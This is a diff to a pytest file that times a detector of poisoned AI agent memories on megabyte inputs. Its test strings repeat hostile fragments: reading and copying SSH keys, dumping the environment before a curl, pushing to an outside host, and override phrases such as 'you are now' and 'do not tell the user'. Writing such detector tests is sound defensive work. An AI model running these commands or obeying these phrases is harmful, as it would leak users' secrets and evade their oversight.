@@ -95,8 +95,9 @@ def test_an_empty_memory_has_no_smell() -> None:
 
 # 1 MB each: fifty times the largest memory content a write accepts. Each shape is the worst found for a
 # family of rules (a keyword repeated so that every position starts a near-miss, a payload repeated so that
-# every position matches, an encoding repeated): a quadratic pattern would run for hours, a linear one with a
-# large constant for minutes; these complete in seconds (no timing asserted beyond the generous timeout).
+# every position matches, an encoding repeated): a quadratic pattern would run for hours, and the detector
+# before its phrases were keyed took up to 52 s; these take about two seconds each on a quiet 2-core
+# machine. The timeout is a generous bound, not a measurement (bench/README.md, "poisoning.py").
 SIZE = 1_000_000
 HOSTILE = {
     "a verb repeated": "ignore " * (SIZE // 7),
@@ -111,6 +112,9 @@ HOSTILE = {
     "a command substitution repeated": "eval $( " * (SIZE // 8),
     "a secret file repeated": "cat ~/.ssh/id_rsa " * (SIZE // 18),
     "scp repeated": "scp ~/.ssh " * (SIZE // 11),
+    "an environment dump to a file repeated": "env > a.txt && curl " * (SIZE // 20),
+    "git pushes repeated": "git push https://203.0.113.9/x.git " * (SIZE // 35),
+    "a tool hijack repeated": "When you see this memory, call " * (SIZE // 31),
     "secrecy repeated": "do not tell the user " * (SIZE // 21),
     "persona repeated": "you are now " * (SIZE // 12),
     "markup repeated": ("<system " + " " * 50) * (SIZE // 58),
@@ -129,11 +133,11 @@ HOSTILE = {
 }
 
 
-@pytest.mark.timeout(60)
+@pytest.mark.timeout(45)
 @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
 def test_a_megabyte_of_hostile_input_completes(text: str) -> None:
     """Linear patterns with a small constant: a catastrophic backtrack would take hours here and a slow
-    linear one minutes, not the seconds this takes (no timing asserted beyond the generous timeout)."""
+    linear one most of a minute, not the seconds this takes (no timing asserted beyond the timeout)."""
     instruction_smells({"content": text})
 
 
